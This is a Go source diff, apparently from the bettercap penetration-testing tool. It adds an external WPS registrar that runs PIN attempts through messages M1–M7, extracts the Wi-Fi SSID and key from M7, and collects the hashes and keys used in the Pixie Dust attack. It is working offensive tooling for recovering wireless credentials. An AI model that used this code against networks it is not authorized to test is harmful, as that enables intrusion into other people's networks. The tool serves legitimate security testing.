@@ -0,0 +1,276 @@
+package packets
+
+import (
+	"crypto/hmac"
+	"crypto/rand"
+	"fmt"
+	"net"
+)
+
+var (
+	wpsRegistrarUUID       = []byte{0x62, 0x65, 0x74, 0x74, 0x65, 0x72, 0x63, 0x61, 0x70, 0x2d, 0x77, 0x70, 0x73, 0x2d, 0x72, 0x00}
+	wpsRegistrarDeviceType = []byte{0x00, 0x01, 0x00, 0x50, 0xf2, 0x04, 0x00, 0x01}
+	wpsRegistrarOSVersion  = []byte{0x80, 0x00, 0x00, 0x00}
+)
+
+// WPSCredential is the network configuration disclosed by the enrollee in M7.
+type WPSCredential struct {
+	SSID string
+	Key  string
+}
+
+// WPSRegistrar implements the external registrar side of the WPS registration
+// protocol (M1 to M7) for a single PIN attempt.
+type WPSRegistrar struct {
+	EnrolleeMAC net.HardwareAddr
+	PIN         string
+	Keys        *WPSKeys
+
+	dh     *WPSDHKeyPair
+	rNonce []byte
+	rs1    []byte
+	rs2    []byte
+	m1     *WPSMessage
+	m3     *WPSMessage
+	last   []byte
+}
+
+func NewWPSRegistrar(enrolleeMAC net.HardwareAddr, pin string) (*WPSRegistrar, error) {
+	if len(pin) != 8 {
+		return nil, fmt.Errorf("'%s' is not a valid 8 digits WPS PIN", pin)
+	}
+
+	dh, err := WPSNewDHKeyPair()
+	if err != nil {
+		return nil, err
+	}
+
+	r := &WPSRegistrar{
+		EnrolleeMAC: enrolleeMAC,
+		PIN:         pin,
+		dh:          dh,
+		rNonce:      make([]byte, WPSNonceSize),
+		rs1:         make([]byte, WPSNonceSize),
+		rs2:         make([]byte, WPSNonceSize),
+	}
+
+	for _, buf := range [][]byte{r.rNonce, r.rs1, r.rs2} {
+		if _, err := rand.Read(buf); err != nil {
+			return nil, err
+		}
+	}
+
+	return r, nil
+}
+
+func (r *WPSRegistrar) enrolleeNonce() []byte {
+	nonce, _ := r.m1.Get(WPSAttrEnrolleeNonce)
+	return nonce
+}
+
+func (r *WPSRegistrar) enrolleePublicKey() []byte {
+	pke, _ := r.m1.Get(WPSAttrPublicKey)
+	return pke
+}
+
+// sign appends the authenticator to the message and keeps it as the last sent one.
+func (r *WPSRegistrar) sign(msg *WPSMessage) []byte {
+	raw := msg.Bytes()
+	msg.Add(WPSAttrAuthenticator, WPSAuthenticator(r.Keys.AuthKey, r.last, raw))
+	r.last = msg.Bytes()
+	return r.last
+}
+
+// verify checks the authenticator of a received message.
+func (r *WPSRegistrar) verify(raw []byte, msg *WPSMessage) error {
+	auth, found := msg.Get(WPSAttrAuthenticator)
+	if !found || len(raw) < 12 {
+		return fmt.Errorf("%s is missing the authenticator", msg.Type())
+	} else if !hmac.Equal(auth, WPSAuthenticator(r.Keys.AuthKey, r.last, raw[:len(raw)-12])) {
+		return fmt.Errorf("%s has an invalid authenticator", msg.Type())
+	}
+	r.last = raw
+	return nil
+}
+
+func (r *WPSRegistrar) header(t WPSMessageType) *WPSMessage {
+	return (&WPSMessage{}).
+		AddUint8(WPSAttrVersion, 0x10).
+		AddUint8(WPSAttrMessageType, uint8(t)).
+		Add(WPSAttrEnrolleeNonce, r.enrolleeNonce())
+}
+
+// HandleM1 parses the enrollee M1 message, derives the session keys and returns M2.
+func (r *WPSRegistrar) HandleM1(raw []byte) ([]byte, error) {
+	var err error
+	if r.m1, err = WPSParseMessage(raw); err != nil {
+		return nil, err
+	} else if r.m1.Type() != WPSMsgM1 {
+		return nil, fmt.Errorf("expected M1, got %s", r.m1.Type())
+	} else if len(r.enrolleeNonce()) != WPSNonceSize {
+		return nil, fmt.Errorf("M1 has an invalid enrollee nonce")
+	}
+
+	dhKey, err := r.dh.SharedKey(r.enrolleePublicKey())
+	if err != nil {
+		return nil, err
+	}
+
+	// prefer the address advertised in M1 over the one of the frame
+	if mac, found := r.m1.Get(WPSAttrMACAddress); found && len(mac) == 6 {
+		r.EnrolleeMAC = net.HardwareAddr(mac)
+	}
+
+	r.Keys = WPSDeriveKeys(dhKey, r.enrolleeNonce(), r.EnrolleeMAC, r.rNonce)
+	r.last = raw
+
+	m2 := r.header(WPSMsgM2).
+		Add(WPSAttrRegistrarNonce, r.rNonce).
+		Add(WPSAttrUUIDR, wpsRegistrarUUID).
+		Add(WPSAttrPublicKey, r.dh.Public).
+		AddUint16(WPSAttrAuthFlags, 0x003f).
+		AddUint16(WPSAttrEncrFlags, 0x000f).
+		AddUint8(WPSAttrConnFlags, 0x01).
+		AddUint16(WPSAttrConfigMethods, 0x0088).
+		Add(WPSAttrManufacturer, []byte("bettercap")).
+		Add(WPSAttrModelName, []byte("bettercap")).
+		Add(WPSAttrModelNumber, []byte("1")).
+		Add(WPSAttrSerialNumber, []byte("1")).
+		Add(WPSAttrPrimaryDevType, wpsRegistrarDeviceType).
+		Add(WPSAttrDeviceName, []byte("bettercap")).
+		AddUint8(WPSAttrRFBands, 0x01).
+		AddUint16(WPSAttrAssocState, 0).
+		AddUint16(WPSAttrConfigError, 0).
+		AddUint16(WPSAttrDevPasswordID, 0).
+		Add(WPSAttrOSVersion, wpsRegistrarOSVersion)
+
+	return r.sign(m2), nil
+}
+
+// HandleM3 stores E-Hash1 and E-Hash2 and returns M4.
+func (r *WPSRegistrar) HandleM3(raw []byte) ([]byte, error) {
+	var err error
+	if r.m3, err = WPSParseMessage(raw); err != nil {
+		return nil, err
+	} else if r.m3.Type() != WPSMsgM3 {
+		return nil, fmt.Errorf("expected M3, got %s", r.m3.Type())
+	} else if err = r.verify(raw, r.m3); err != nil {
+		return nil, err
+	}
+
+	pke := r.enrolleePublicKey()
+	psk1 := WPSPSK(r.Keys.AuthKey, r.PIN[:4])
+	psk2 := WPSPSK(r.Keys.AuthKey, r.PIN[4:])
+
+	encrypted, err := WPSEncryptSettings(r.Keys, (&WPSMessage{}).Add(WPSAttrRSNonce1, r.rs1))
+	if err != nil {
+		return nil, err
+	}
+
+	m4 := r.header(WPSMsgM4).
+		Add(WPSAttrRHash1, WPSHash(r.Keys.AuthKey, r.rs1, psk1, pke, r.dh.Public)).
+		Add(WPSAttrRHash2, WPSHash(r.Keys.AuthKey, r.rs2, psk2, pke, r.dh.Public)).
+		Add(WPSAttrEncrSettings, encrypted)
+
+	return r.sign(m4), nil
+}
+
+func (r *WPSRegistrar) decryptSecretNonce(raw []byte, expected WPSMessageType, nonceAttr uint16, hashAttr uint16, half string) (*WPSMessage, error) {
+	msg, err := WPSParseMessage(raw)
+	if err != nil {
+		return nil, err
+	} else if msg.Type() != expected {
+		return nil, fmt.Errorf("expected %s, got %s", expected, msg.Type())
+	} else if err = r.verify(raw, msg); err != nil {
+		return nil, err
+	}
+
+	encrypted, found := msg.Get(WPSAttrEncrSettings)
+	if !found {
+		return nil, fmt.Errorf("%s is missing encrypted settings", expected)
+	}
+
+	settings, err := WPSDecryptSettings(r.Keys, encrypted)
+	if err != nil {
+		return nil, err
+	}
+
+	es, found := settings.Get(nonceAttr)
+	if !found {
+		return nil, fmt.Errorf("%s is missing the secret nonce", expected)
+	}
+
+	hash, _ := r.m3.Get(hashAttr)
+	if !hmac.Equal(WPSHash(r.Keys.AuthKey, es, WPSPSK(r.Keys.AuthKey, half), r.enrolleePublicKey(), r.dh.Public), hash) {
+		return nil, fmt.Errorf("enrollee secret nonce does not match its hash")
+	}
+
+	return settings, nil
+}
+
+// HandleM5 verifies the enrollee E-S1 and returns M6.
+func (r *WPSRegistrar) HandleM5(raw []byte) ([]byte, error) {
+	if _, err := r.decryptSecretNonce(raw, WPSMsgM5, WPSAttrESNonce1, WPSAttrEHash1, r.PIN[:4]); err != nil {
+		return nil, err
+	}
+
+	encrypted, err := WPSEncryptSettings(r.Keys, (&WPSMessage{}).Add(WPSAttrRSNonce2, r.rs2))
+	if err != nil {
+		return nil, err
+	}
+
+	return r.sign(r.header(WPSMsgM6).Add(WPSAttrEncrSettings, encrypted)), nil
+}
+
+// HandleM7 verifies the enrollee E-S2 and returns the network credentials.
+func (r *WPSRegistrar) HandleM7(raw []byte) (*WPSCredential, error) {
+	settings, err := r.decryptSecretNonce(raw, WPSMsgM7, WPSAttrESNonce2, WPSAttrEHash2, r.PIN[4:])
+	if err != nil {
+		return nil, err
+	}
+
+	// the configuration is either inline or wrapped into a credential attribute
+	if cred, found := settings.Get(WPSAttrCredential); found {
+		if settings, err = WPSParseMessage(cred); err != nil {
+			return nil, err
+		}
+	}
+
+	ssid, _ := settings.Get(WPSAttrSSID)
+	key, _ := settings.Get(WPSAttrNetworkKey)
+	return &WPSCredential{
+		SSID: string(ssid),
+		Key:  string(key),
+	}, nil
+}
+
+// Nack returns a WSC_NACK message for the current session.
+func (r *WPSRegistrar) Nack(configError uint16) []byte {
+	msg := (&WPSMessage{}).
+		AddUint8(WPSAttrVersion, 0x10).
+		AddUint8(WPSAttrMessageType, uint8(WPSMsgNack))
+	if r.m1 != nil {
+		msg.Add(WPSAttrEnrolleeNonce, r.enrolleeNonce())
+	}
+	return msg.
+		Add(WPSAttrRegistrarNonce, r.rNonce).
+		AddUint16(WPSAttrConfigError, configError).
+		Bytes()
+}
+
+// PixieData returns what's needed to run the Pixie Dust attack, available once M3 is received.
+func (r *WPSRegistrar) PixieData() (*WPSPixieData, error) {
+	if r.m1 == nil || r.m3 == nil {
+		return nil, fmt.Errorf("M1 and M3 are required for the pixie dust attack")
+	}
+	eHash1, _ := r.m3.Get(WPSAttrEHash1)
+	eHash2, _ := r.m3.Get(WPSAttrEHash2)
+	return &WPSPixieData{
+		PKE:     r.enrolleePublicKey(),
+		PKR:     r.dh.Public,
+		EHash1:  eHash1,
+		EHash2:  eHash2,
+		AuthKey: r.Keys.AuthKey,
+		ENonce:  r.enrolleeNonce(),
+	}, nil
+}